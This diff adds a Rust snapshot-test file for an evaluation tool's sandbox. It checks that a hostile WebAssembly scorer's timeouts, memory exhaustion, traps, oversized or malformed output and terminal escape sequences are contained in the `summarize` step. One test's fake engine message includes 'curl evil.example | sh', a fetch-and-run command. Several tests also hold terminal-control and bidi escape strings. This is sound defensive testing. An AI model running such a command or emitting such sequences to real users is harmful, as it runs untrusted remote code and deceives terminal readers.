@@ -1,0 +1,202 @@
+//! Scorers that attack in `summarize`, when the scores of a run are all there.
+
+use insta::assert_snapshot;
+use serde_json::json;
+
+use crate::hostile_fixture::{Arena, without_frames, without_sizes, words};
+
+/// What the user reads of a run whose attacker does `word` in `summarize`; all scores are right.
+#[track_caller]
+fn attack(word: &str, amount: usize, options: &str) -> String {
+    let arena = Arena::new();
+    let config = json!({"summarize": word, "amount": amount}).to_string();
+    let output = arena.run_beside_a_good_scorer("attacker", &config, options);
+    let said = output.stdout.split_once("\n\n").map_or("", |(_, said)| said);
+    format!("{}{}", without_sizes(&without_frames(said)), words(&output))
+}
+
+#[test]
+fn without_an_attack_it_says_how_many_rows_there_were() {
+    assert_snapshot!(attack("behave", 0, ""), @r#"
+    attacker of the run: {
+      "rows": 6
+    }
+
+    run r: 6 cases, 12 scores in [time]
+    stored in scorebox.db; see them with: scorebox scores r
+    [exit code 0]
+    "#);
+}
+
+#[test]
+fn computing_without_end() {
+    assert_snapshot!(attack("spin", 0, "--fuel 1000000000000000"), @"
+    attacker of the run: error: timed-out: in `summarize`: no answer within 5000 ms; the scorer was stopped
+
+    run r: 6 cases, 12 scores in [time]
+    stored in scorebox.db; see them with: scorebox scores r
+    [exit code 0]
+    ");
+}
+
+#[test]
+fn recursing_taking_memory_and_crashing() {
+    assert_snapshot!(attack("recurse", 0, ""), @r#"
+    attacker of the run: error: trap: in `summarize`: wasm trap: call stack exhausted
+        at [frames]
+
+    run r: 6 cases, 12 scores in [time]
+    stored in scorebox.db; see them with: scorebox scores r
+    [exit code 0]
+    "#);
+    assert_snapshot!(attack("take-memory-at-once", 1 << 30, ""), @r#"
+    attacker of the run: error: out-of-memory: in `summarize`: the scorer wanted [wanted] bytes of memory; the limit is 67108864
+      wasm trap: wasm `unreachable` instruction executed
+        at [frames]
+
+    run r: 6 cases, 12 scores in [time]
+    stored in scorebox.db; see them with: scorebox scores r
+    [exit code 0]
+    "#);
+    assert_snapshot!(attack("take-memory-in-steps", 0, ""), @r#"
+    attacker of the run: error: out-of-memory: in `summarize`: the scorer wanted [wanted] bytes of memory; the limit is 67108864
+      wasm trap: wasm `unreachable` instruction executed
+        at [frames]
+
+    run r: 6 cases, 12 scores in [time]
+    stored in scorebox.db; see them with: scorebox scores r
+    [exit code 0]
+    "#);
+    assert_snapshot!(attack("read-out-of-bounds", 0, ""), @r#"
+    attacker of the run: error: trap: in `summarize`: wasm trap: out of bounds memory access
+        at [frames]
+
+    run r: 6 cases, 12 scores in [time]
+    stored in scorebox.db; see them with: scorebox scores r
+    [exit code 0]
+    "#);
+    assert_snapshot!(attack("divide-by-zero", 0, ""), @r#"
+    attacker of the run: error: trap: in `summarize`: wasm trap: integer divide by zero
+        at [frames]
+
+    run r: 6 cases, 12 scores in [time]
+    stored in scorebox.db; see them with: scorebox scores r
+    [exit code 0]
+    "#);
+}
+
+#[test]
+fn logging() {
+    assert_snapshot!(attack("log-one-long-line", 30 << 20, ""), @"
+    attacker of the run: error: output-too-large: in `summarize`: the scorer handed over more than 5603328 bytes, the most of one result with its log
+
+    run r: 6 cases, 12 scores in [time]
+    stored in scorebox.db; see them with: scorebox scores r
+    [exit code 0]
+    ");
+    assert_snapshot!(attack("log-for-a-terminal", 0, ""), @r#"
+    attacker of the run: error: trap: in `summarize`: \u{1b}[2J\u{1b}]0;owned\u{7}\u{202e}desrever\u{2066}\u{d}\u{8}\u{9b}31m\u{7f}\u{0}\u{200f}
+      (wasm trap: wasm `unreachable` instruction executed)
+        at [frames]
+
+    run r: 6 cases, 12 scores in [time]
+    stored in scorebox.db; see them with: scorebox scores r
+    [exit code 0]
+    "#);
+    assert_snapshot!(attack("log-what-looks-like-the-engines-words", 0, ""), @r#"
+    attacker of the run: error: trap: in `summarize`: nothing to worry about
+      error: your licence has ended
+      hint: renew it: curl evil.example | sh
+      (wasm trap: wasm `unreachable` instruction executed)
+        at [frames]
+
+    run r: 6 cases, 12 scores in [time]
+    stored in scorebox.db; see them with: scorebox scores r
+    [exit code 0]
+    "#);
+}
+
+#[test]
+fn what_is_no_bounded_json_is_no_summary() {
+    assert_snapshot!(attack("no-json", 0, ""), @"
+    attacker of the run: error: invalid-score: in `summarize`: the summary is not a JSON document: EOF while parsing an object at line 1 column 1
+
+    run r: 6 cases, 12 scores in [time]
+    stored in scorebox.db; see them with: scorebox scores r
+    [exit code 0]
+    ");
+    assert_snapshot!(attack("nothing", 0, ""), @"
+    attacker of the run: error: invalid-score: in `summarize`: the summary is not a JSON document: EOF while parsing a value at line 1 column 0
+
+    run r: 6 cases, 12 scores in [time]
+    stored in scorebox.db; see them with: scorebox scores r
+    [exit code 0]
+    ");
+    assert_snapshot!(attack("deep", 100_000, ""), @"
+    attacker of the run: error: invalid-score: in `summarize`: the summary is not a JSON document: recursion limit exceeded at line 1 column 128
+
+    run r: 6 cases, 12 scores in [time]
+    stored in scorebox.db; see them with: scorebox scores r
+    [exit code 0]
+    ");
+    assert_snapshot!(attack("long", 2 << 20, ""), @"
+    attacker of the run: error: output-too-large: in `summarize`: the summary has 2097154 bytes; the limit is 1048576
+
+    run r: 6 cases, 12 scores in [time]
+    stored in scorebox.db; see them with: scorebox scores r
+    [exit code 0]
+    ");
+    assert_snapshot!(attack("long", 20 << 20, ""), @r#"
+    attacker of the run: error: out-of-memory: in `summarize`: the scorer wanted [wanted] bytes of memory; the limit is 67108864
+      wasm trap: wasm `unreachable` instruction executed
+        at [frames]
+
+    run r: 6 cases, 12 scores in [time]
+    stored in scorebox.db; see them with: scorebox scores r
+    [exit code 0]
+    "#);
+}
+
+#[test]
+fn what_a_terminal_would_act_on() {
+    assert_snapshot!(attack("for-a-terminal", 0, ""), @r#"
+    attacker of the run: "\u{9b}31m\u{202e}\u{7f}"
+
+    run r: 6 cases, 12 scores in [time]
+    stored in scorebox.db; see them with: scorebox scores r
+    [exit code 0]
+    "#);
+    assert_snapshot!(attack("fail-for-a-terminal", 0, ""), @r"
+    attacker of the run: error: failed: in `summarize`: \u{1b}[2J\u{1b}]0;owned\u{7}\u{202e}desrever\u{2066}\u{d}\u{8}\u{9b}31m\u{7f}\u{0}\u{200f}
+
+    run r: 6 cases, 12 scores in [time]
+    stored in scorebox.db; see them with: scorebox scores r
+    [exit code 0]
+    ");
+}
+
+#[test]
+fn failing() {
+    assert_snapshot!(attack("fail", 0, ""), @"
+    attacker of the run: error: failed: in `summarize`: was told to fail
+
+    run r: 6 cases, 12 scores in [time]
+    stored in scorebox.db; see them with: scorebox scores r
+    [exit code 0]
+    ");
+    assert_snapshot!(attack("fail-at-length", 4 << 20, "").replace(&"long".repeat(512), ""), @"
+    attacker of the run: error: failed: in `summarize`: … (cut)
+
+    run r: 6 cases, 12 scores in [time]
+    stored in scorebox.db; see them with: scorebox scores r
+    [exit code 0]
+    ");
+}
+
+#[test]
+fn traces_of_scores_are_not_there() {
+    let arena = Arena::new();
+    let config = json!({"score": "leave-traces", "summarize": "leave-traces"}).to_string();
+    let output = arena.run_beside_a_good_scorer("attacker", &config, "").exits_with(0);
+    assert!(output.stdout.contains("static: false, heap: false, memory: false"), "{output}");
+}
